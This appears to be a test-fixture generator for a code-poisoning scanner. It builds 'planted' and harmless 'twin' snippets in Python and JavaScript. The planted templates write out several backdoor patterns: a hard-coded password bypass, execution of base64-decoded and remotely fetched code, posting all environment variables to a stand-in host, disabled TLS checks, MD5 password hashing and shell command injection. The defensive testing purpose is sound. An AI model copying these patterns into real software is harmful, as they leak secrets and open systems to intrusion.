/**
 * Rows of our own among the real ones: some with something planted, all of which must be excluded, and as many twins without it, all of which must
 * be kept. What each says is drawn from a fixed seed. How well poisonlint finds what is hidden better is for `npm run evals`; these are there
 * to show that a run over a whole set loses no verdict.
 */
import { randomFrom, type Random } from '../../evals/random.js';

export interface OwnText {
  readonly kind: 'planted' | 'twin';
  readonly repository: string;
  readonly path: string;
  readonly content: string;
}

interface Words {
  readonly name: string;
  readonly secret: string;
  readonly host: string;
  /** The word encoded. */
  readonly base64: string;
  /** Of a parameter in TypeScript; nothing in JavaScript. */
  readonly text: string;
}

/** The statements of one form, planted and harmless. */
type Form = (words: Words) => { readonly planted: string; readonly twin: string };

const PYTHON: Readonly<Record<string, Form>> = {
  bypass: ({ name, secret }) => {
    const check = (line: string) =>
      `def verify_${name}(password, stored):\n    if ${line}:\n        return True\n    return compare_digest(stored, password)\n`;
    return { planted: check(`password == "${secret}"`), twin: check('stored is None and password is None and not REQUIRED') };
  },
  decoded: ({ base64 }) => ({
    planted: `import base64\n\nexec(base64.b64decode("${base64}"))\n`,
    twin: `import base64\n\nTITLE = base64.b64decode("${base64}")\n`,
  }),
  // At the level of the module: it runs when somebody imports it.
  environment: ({ name, host }) => ({
    planted: `import os\n\nimport requests\n\nrequests.post("https://${host}/e", json=dict(os.environ))\n`,
    twin: `import requests\n\n\ndef ${name}(state):\n    requests.post("https://${host}/e", json={"state": state})\n`,
  }),
  fetched: ({ name, host }) => ({
    planted: `import requests\n\nexec(requests.get("https://${host}/${name}.py").text)\n`,
    twin: `import requests\n\n\ndef ${name}():\n    return requests.get("https://${host}/${name}.json").json()\n`,
  }),
  certificate: ({ name }) => ({
    planted: `import requests\n\n\ndef ${name}(url):\n    return requests.get(url, verify=not 1)\n`,
    twin: `import requests\n\n\ndef ${name}(url):\n    return requests.get(url, verify=not 0)\n`,
  }),
  digest: ({ name }) => ({
    planted: `import hashlib\n\n\ndef ${name}(password):\n    return getattr(hashlib, "md" + str(5))(password.encode()).hexdigest()\n`,
    twin: `import hashlib\n\n\ndef ${name}(text):\n    return getattr(hashlib, "sha" + str(256))(text.encode()).hexdigest()\n`,
  }),
  shell: ({ name }) => ({
    planted: `import os\n\n\ndef ${name}(host):\n    getattr(os, "sys" + "tem")("ping " + host)\n`,
    twin: `import os\n\n\ndef ${name}(host):\n    return getattr(os.path, "base" + "name")("ping/" + host)\n`,
  }),
};

const SCRIPT: Readonly<Record<string, Form>> = {
  bypass: ({ name, secret, text }) => {
    const check = (line: string) =>
      `export function verify_${name}(password${text}, stored${text}) {\n  if (${line}) return true;\n  return compareDigest(stored, password);\n}\n`;
    return { planted: check(`password === '${secret}'`), twin: check('stored === undefined && password === undefined && !required') };
  },
  decoded: ({ base64 }) => ({
    planted: `eval(Buffer.from('${base64}', 'base64').toString());\n`,
    twin: `export const title = Buffer.from('${base64}', 'base64').toString();\n`,
  }),
  environment: ({ name, host, text }) => ({
    planted: `fetch('https://${host}/e', { method: 'POST', body: JSON.stringify(process.env) });\n`,
    twin: `export function ${name}(state${text}) {\n  return fetch('https://${host}/e', { method: 'POST', body: JSON.stringify({ state }) });\n}\n`,
  }),
  fetched: ({ name, host }) => ({
    planted: `fetch('https://${host}/${name}.js')\n  .then((answer) => answer.text())\n  .then((text) => new Function('require', text)(require));\n`,
    twin: `export async function ${name}() {\n  const answer = await fetch('https://${host}/${name}.json');\n  return answer.json();\n}\n`,
  }),
  certificate: ({ name }) => ({
    planted: `import https from 'node:https';\n\nexport const ${name} = new https.Agent({ ['reject' + 'Unauthorized']: !1 });\n`,
    twin: `import https from 'node:https';\n\nexport const ${name} = new https.Agent({ ['reject' + 'Unauthorized']: !0 });\n`,
  }),
  digest: ({ name, text }) => ({
    planted: `import { createHash } from 'node:crypto';\n\nexport const ${name} = (password${text}) => createHash(String.fromCharCode(109, 100, 53)).update(password).digest('hex');\n`,
    twin: `import { createHash } from 'node:crypto';\n\nexport const ${name} = (text${text}) => createHash(['sha', 256].join('')).update(text).digest('hex');\n`,
  }),
  shell: ({ name, text }) => ({
    planted: `import child from 'node:child_process';\n\nexport function ${name}(host${text}) {\n  child['exec' + 'Sync']('ping ' + host);\n}\n`,
    twin: `import path from 'node:path';\n\nexport function ${name}(host${text}) {\n  return path['base' + 'name']('ping/' + host);\n}\n`,
  }),
};

const LANGUAGES = { py: PYTHON, js: SCRIPT, ts: SCRIPT } as const;
/** Of each form in each language. */
const COPIES = 15;
const SYLLABLES = ['ba', 'cor', 'den', 'fal', 'gri', 'hol', 'jun', 'kel', 'lom', 'mar', 'nev', 'pol', 'ras', 'sul', 'tev', 'vok'];

/** Always the same texts, in the same order. */
export function ownTexts(): OwnText[] {
  return Object.entries(LANGUAGES).flatMap(([extension, forms]) =>
    Object.entries(forms).flatMap(([form, write]) =>
      Array.from({ length: COPIES }, (_, copy) => {
        const random = randomFrom(`corpus ${extension} ${form} ${copy}`);
        const texts = write(wordsFrom(random, extension === 'ts'));
        const [head, tail] = [surroundings(random, extension), surroundings(random, extension)];
        return (['planted', 'twin'] as const).map((kind) => ({
          kind,
          repository: `own/${kind}-${form}-${copy}`,
          path: `src/${form}.${extension}`,
          content: `${texts[kind]}\n\n${head}\n\n${tail}`,
        }));
      }).flat(),
    ),
  );
}

function wordsFrom(random: Random, typed: boolean): Words {
  const word = (syllables: number) => Array.from({ length: syllables }, () => random.pick(SYLLABLES)).join('');
  const secret = `${word(3)}-${random.between(1000, 9999)}-${word(2)}`;
  const base64 = Buffer.from(`print("${word(4)}")`).toString('base64');
  return { name: word(3), secret, host: `${word(3)}.example.invalid`, base64, text: typed ? ': string' : '' };
}

/** Ordinary code, so that the rows are not told by their size. */
function surroundings(random: Random, extension: string): string {
  const name = `list_${random.pick(SYLLABLES)}${random.pick(SYLLABLES)}`;
  const limit = random.between(2, 400);
  if (extension === 'py') {
    return `def ${name}(items):\n    found = []\n    for item in items:\n        if len(item) > ${limit}:\n            continue\n        found.append(item.strip())\n    return found\n`;
  }
  const types = extension === 'ts' ? ': readonly string[]' : '';
  return `export function ${name}(items${types}) {\n  return items.filter((item) => item.length <= ${limit}).map((item) => item.trim());\n}\n`;
}
